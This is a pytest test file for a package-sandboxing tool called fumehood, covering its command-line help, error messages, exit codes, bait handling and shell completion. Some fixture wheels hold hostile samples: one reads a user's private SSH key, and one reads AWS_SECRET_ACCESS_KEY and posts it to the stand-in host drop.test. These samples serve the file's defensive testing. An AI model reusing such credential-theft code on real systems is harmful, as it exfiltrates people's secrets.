"""The command line teaches, and a user's mistake is one line with the next step, never a traceback."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, BinaryIO

import pytest

from tests.images.pods import make_wheel

if TYPE_CHECKING:
    from tests.run.conftest import Fumehood

pytestmark = pytest.mark.pod


@pytest.mark.parametrize(
    "command",
    [
        (),
        ("run",),
        ("report",),
        ("replay",),
        ("events",),
        ("rules",),
        ("rules", "list"),
        ("rules", "check"),
        ("rules", "test"),
        ("rules", "lint"),
        ("rules", "explain"),
        ("rules", "docs"),
        ("image",),
        ("image", "build"),
        ("serve",),
        ("token",),
        ("token", "create"),
        ("token", "list"),
        ("token", "revoke"),
        ("pods",),
        ("pods", "prune"),
        ("completion",),
    ],
)
def test_every_command_has_help(fumehood: Fumehood, command: tuple[str, ...]) -> None:
    ran = fumehood(*command, "--help")
    assert ran.code == 0
    text = ran.out.decode()
    assert text.startswith("Usage: fumehood")
    assert len(text.splitlines()) > 5


@pytest.mark.parametrize(
    ("arguments", "teaches"),
    [
        (("run",), "Missing argument 'PACKAGE'"),
        (("run", "six"), "write pkg:pypi/six"),
        (("run", "pkg:npm/left-pad"), "not supported yet"),
        (("run", "pkg:pypi/six@not-a-version"), "not a version"),
        (("run", "./absent-1.0.tar.gz"), "absent-1.0.tar.gz"),
        (("run", "pkg:pypi/six", "--profile", "pipy"), "pypi"),
        (("run", "pkg:pypi/six", "--artefact", "egg"), "wheel"),
        (("report", "nowhere"), "nowhere"),
        (("events", "nowhere"), "nowhere"),
        (("rnu",), "No such command"),
        (("run", "pkg:pypi/six", "--runtime", "runsc"), "--runtime is for --pod docker"),
        (("run", "pkg:pypi/six", "--pod", "bubblewrap", "--runtime", "runc"), "--runtime is for --pod docker"),
        (("run", "pkg:pypi/six", "--pod", "podman"), "'auto', 'bubblewrap', 'docker'"),
        (("run", "pkg:pypi/six", "--fail-on", "always"), "suspicious"),
    ],
)
def test_a_mistake_is_one_line_with_what_to_do(fumehood: Fumehood, arguments: tuple[str, ...], teaches: str) -> None:
    ran = fumehood(*arguments)
    assert ran.code == 2
    assert ran.out == b""
    assert teaches in ran.err
    assert "Traceback" not in ran.err
    said = ran.err.splitlines()
    assert len([line for line in said if line.startswith("fumehood: ")]) == 1, ran.err
    assert said[-1].startswith("fumehood: "), "only progress may come before it"


def test_a_local_wheel_from_run_to_report_events_and_formats(fumehood: Fumehood, tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "thing", {"thing/__init__.py": "open('/etc/hostname').read()\n"}, {"thing": "thing:f"})
    shutil.copy(wheel, tmp_path / "copy.whl")
    output = tmp_path / "report.json"
    ran = fumehood("run", wheel, "--format", "json", "--output", output)
    assert ran.code == 0, ran.err
    assert ran.out == b""
    assert "install: completed" in ran.err, "plain progress lines where there is no terminal"
    report = json.loads(output.read_bytes())
    assert report["schema"].startswith("fumehood.report/")
    assert report["package"]["purl"] == "pkg:pypi/thing@1.0"
    again = fumehood("report", fumehood.bundle(), "--format", "json")
    assert again.out == output.read_bytes()
    text = fumehood("report", fumehood.bundle())
    assert "CLEAN" in text.out.decode()
    assert b"\x1b" not in text.out, "no colours where there is no terminal"
    events = fumehood("events", fumehood.bundle(), "--phase", "import", "--kind", "file.read").out.decode().splitlines()
    assert any(
        re.fullmatch(r"import target \d+ file\.read path=/etc/hostname  # traces/import\.strace\.zst:\d+", line)
        for line in events
    )
    assert all(line.startswith("import ") and " file.read " in line for line in events)


def test_a_mistake_in_what_comes_after_the_run_is_told_before_it(fumehood: Fumehood, tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "thing", {"thing.py": ""})
    broken = tmp_path / "rules"
    broken.mkdir()
    (broken / "broken.yml").write_text("title: x\n")
    for options, teaches in (
        (("--output", tmp_path / "absent" / "report.json"), "choose another --output"),
        (("--rules", broken), "broken.yml:1: "),
    ):
        ran = fumehood("run", wheel, *options)
        assert ran.code == 2
        assert teaches in ran.err
        assert len(ran.err.splitlines()) == 1, "no phase was started"
    assert not fumehood.bundles.exists()


def test_no_place_for_bundles_is_one_line_with_what_to_do(fumehood: Fumehood, tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "thing", {"thing.py": ""})
    ran = fumehood("run", "--quiet", wheel, environment={"FUMEHOOD_BUNDLES": str(wheel)})
    assert ran.code == 2
    assert re.fullmatch(rf"fumehood: .*{re.escape(str(wheel))}: .*set FUMEHOOD_BUNDLES .*\n", ran.err), ran.err


def test_readers_that_leave_and_disks_that_are_full(fumehood: Fumehood, tmp_path: Path) -> None:
    body = "open('/home/martin/.ssh/id_ed25519').read()\n"
    assert fumehood.run(make_wheel(tmp_path, "peek", {"peek.py": body})).code == 1
    bundle = fumehood.bundle()
    for arguments, code in ((("report", bundle), 1), (("events", bundle), 0), (("rules", "list"), 0)):
        reader, writer = os.pipe()
        os.close(reader)
        with os.fdopen(writer, "wb") as gone:
            ran = _into(gone, *arguments)
        assert (ran.returncode, ran.stderr) == (code, b""), "the verdict's exit code stands, and nothing is said"
        with Path("/dev/full").open("wb") as full:
            ran = _into(full, *arguments)
        assert ran.returncode == 4
        assert ran.stderr == b"fumehood: cannot write to standard output: No space left on device; try --output\n"


def _into(out: BinaryIO, *arguments: str | Path) -> subprocess.CompletedProcess[bytes]:
    command = [Path(sys.executable).with_name("fumehood"), *arguments]
    return subprocess.run(command, check=False, stdout=out, stderr=subprocess.PIPE)


def test_filters_that_cannot_match_are_told_from_events_that_did_not_happen(fumehood: Fumehood, tmp_path: Path) -> None:
    assert fumehood.run(make_wheel(tmp_path, "thing", {"thing.py": ""})).code == 0
    bundle = fumehood.bundle()
    phase = fumehood("events", bundle, "--phase", "imprt")
    assert (phase.code, phase.out) == (2, b"")
    assert "it has dependencies, install, startup, import, exercise, linger" in phase.err
    kind = fumehood("events", bundle, "--kind", "files")
    assert (kind.code, kind.out) == (2, b"")
    assert "file.read" in kind.err
    nothing = fumehood("events", bundle, "--kind", "dns")
    assert (nothing.code, nothing.out) == (0, b"")
    assert nothing.err.startswith("no event matches; actors in this bundle: installer")


def test_fail_on_decides_the_exit_code(fumehood: Fumehood, tmp_path: Path) -> None:
    body = "open('/home/martin/.ssh/id_ed25519').read()\n"
    wheel = make_wheel(tmp_path, "peek", {"peek.py": body})
    ran = fumehood.run(wheel)
    assert (ran.code, ran.report["verdict"]) == (1, "suspicious")
    bundle = fumehood.bundle()
    assert fumehood("report", bundle, "--fail-on", "malicious").code == 0
    assert fumehood("report", bundle, "--fail-on", "never").code == 0
    assert fumehood("report", bundle, "--fail-on", "suspicious").code == 1


def test_no_bait_value_stands_in_a_report(fumehood: Fumehood, tmp_path: Path) -> None:
    body = (
        "import os, subprocess, urllib.request\n"
        "secret = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "subprocess.run(['/bin/echo', secret])\n"
        "urllib.request.urlopen(urllib.request.Request('http://drop.test/' + secret, data=secret.encode()))\n"
    )
    ran = fumehood.run(make_wheel(tmp_path, "leak", {"leak.py": body}))
    assert ran.report["verdict"] == "malicious"
    bait = json.loads((fumehood.bundle() / "bait.json").read_bytes())
    assert len(bait) > 10
    assert [entry["name"] for entry in bait if entry["value"].encode() in ran.out] == []
    text = fumehood("report", fumehood.bundle()).out
    assert [entry["name"] for entry in bait if entry["value"].encode() in text] == []


def test_rules_are_listed_and_checked(fumehood: Fumehood, tmp_path: Path) -> None:
    listed = fumehood("rules", "list").out.decode().splitlines()
    assert len(listed) >= 15
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules/broken.yml").write_text("title: x\n")
    checked = fumehood("rules", "check", tmp_path / "rules")
    assert checked.code == 2
    assert "broken.yml" in checked.err


def test_a_runtime_for_all_commands_is_no_mistake_with_the_embedded_pod(fumehood: Fumehood, tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "thing", {"thing.py": ""})
    ran = fumehood("run", wheel, "-q", "--format=json", environment={"FUMEHOOD_RUNTIME": "runsc", "FUMEHOOD_POD": ""})
    assert ran.code == 0, ran.err
    assert (ran.report["manifest"]["isolation"]["pod"], ran.report["manifest"]["isolation"]["runtime"]) == (
        "bubblewrap",
        "",
    )
    assert fumehood("run", wheel, "--runtime=runsc", environment={"FUMEHOOD_POD": "bubblewrap"}).code == 2
    wrong = fumehood("run", wheel, environment={"FUMEHOOD_POD": "podman"})
    assert wrong.code == 2
    assert "FUMEHOOD_POD" in wrong.err


@pytest.mark.parametrize("host", ["tcp://192.0.2.1:2375", "unix:///nowhere/docker.sock"])
def test_an_engine_that_cannot_be_used_is_one_line(fumehood: Fumehood, tmp_path: Path, host: str) -> None:
    wheel = make_wheel(tmp_path, "thing", {"thing.py": ""})
    for arguments in (("run", "-q", "--pod=docker", wheel), ("pods", "prune")):
        ran = fumehood(*arguments, environment={"DOCKER_HOST": host})
        assert ran.code == 4
        assert ran.out == b""
        assert re.fullmatch(r"fumehood: cannot use Docker: .*\n", ran.err), ran.err
    assert list(fumehood.bundles.glob("*.partial")) == []


def test_the_help_of_run_tells_of_its_environment(fumehood: Fumehood) -> None:
    told = " ".join(fumehood("run", "--help").out.decode().split())
    assert "env var: FUMEHOOD_POD; default: bubblewrap" in told
    assert "env var: FUMEHOOD_RUNTIME" in told


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_completion_scripts(fumehood: Fumehood, shell: str) -> None:
    ran = fumehood("completion", shell)
    assert ran.code == 0
    assert b"_FUMEHOOD_COMPLETE" in ran.out
    words = fumehood(
        environment={"_FUMEHOOD_COMPLETE": "bash_complete", "COMP_WORDS": "fumehood r", "COMP_CWORD": "1"},
    )
    assert {line.split(",")[1] for line in words.out.decode().splitlines()} == {"replay", "report", "rules", "run"}


@pytest.mark.parametrize(
    ("typed", "offered"),
    [
        (("r",), {"replay", "report", "rules", "run"}),
        (("run", "--art"), {"--artefact"}),
        (("run", "--artefact", "w"), {"wheel"}),
        (("run", "pk"), {"pkg:pypi/"}),
        (("run", "thi"), {"thing-1.0.tar.gz"}),
        (("report", "thi"), {"thing-1.0.tar.gz"}),
        (("completion", ""), {"bash", "zsh", "fish"}),
        (("run", "--pod", ""), {"auto", "bubblewrap", "docker"}),
        (("run", "--pod", "docker", "--runtime", "run"), {"runc", "runsc"}),
        (("pods", ""), {"prune"}),
    ],
)
def test_bash_completes(fumehood: Fumehood, tmp_path: Path, typed: tuple[str, ...], offered: set[str]) -> None:
    (tmp_path / "thing-1.0.tar.gz").touch()
    (tmp_path / "script").write_bytes(fumehood("completion", "bash").out)
    words = " ".join(f"'{word}'" for word in ("fumehood", *typed))
    # What readline does on Tab: call the function, and where it asks for file names, complete these.
    asks = f"""
        compopt() {{ COMPREPLY=($(compgen -f -- "${{COMP_WORDS[COMP_CWORD]}}")); }}
        source ./script
        COMP_WORDS=({words}); COMP_CWORD={len(typed)}
        _fumehood_completion fumehood
        printf '%s\\n' "${{COMPREPLY[@]}}"
    """
    path = f"{Path(sys.executable).parent}:{os.environ['PATH']}"
    shown = subprocess.run(
        ["bash", "--norc", "-c", asks],
        check=True,
        capture_output=True,
        text=True,
        cwd=tmp_path,
        # Without an engine the runtimes that we know of are offered.
        env={"PATH": path, "DOCKER_HOST": "unix:///nowhere/docker.sock"},
    )
    assert set(shown.stdout.split()) == offered
